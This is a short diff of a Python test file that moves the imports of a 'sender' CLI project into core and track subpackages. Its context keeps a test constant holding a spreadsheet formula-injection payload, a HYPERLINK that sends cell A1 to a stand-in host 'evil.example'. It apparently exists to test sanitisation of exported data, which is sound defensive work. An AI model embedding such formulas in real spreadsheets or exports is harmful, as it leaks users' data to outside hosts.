@@ -14,11 +14,11 @@ from typer.testing import CliRunner
 
 from sender.cli import app
 from sender.cli.common import console
-from sender.config import Settings, reset_settings
-from sender.db import session_scope
-from sender.inbound import parse_stored_reply
-from sender.models import Reply
-from sender.vocabulary import ReplyStatus
+from sender.core.config import Settings, reset_settings
+from sender.core.db import session_scope
+from sender.core.models import Reply
+from sender.core.vocabulary import ReplyStatus
+from sender.track.inbound import parse_stored_reply
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Free Jani")'
 
